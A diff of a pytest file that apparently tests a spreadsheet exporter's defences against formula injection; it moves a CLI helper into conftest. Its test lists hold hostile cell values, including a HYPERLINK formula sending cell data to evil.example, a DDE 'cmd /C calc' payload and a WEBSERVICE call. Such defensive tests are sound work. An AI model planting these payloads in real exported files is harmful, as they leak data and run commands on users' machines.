@@ -10,18 +10,13 @@ import time
 import zipfile
 
 import pytest
-from click.testing import CliRunner
 
-import cli
+from conftest import run
 from validators.exporters.safety import FORMULA_PREFIXES, cell_text
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "\t=1+1", "\r=1+1", "=1+1\x01\x1b[31m", "正常事项名称"]
 BASE_HOSTILE = ['=WEBSERVICE("http://evil.example")', "@HYPERLINK(\"x\")"]
-
-
-def run(*args):
-    return CliRunner().invoke(cli.main, [str(a) for a in args])
 
 
 @pytest.fixture
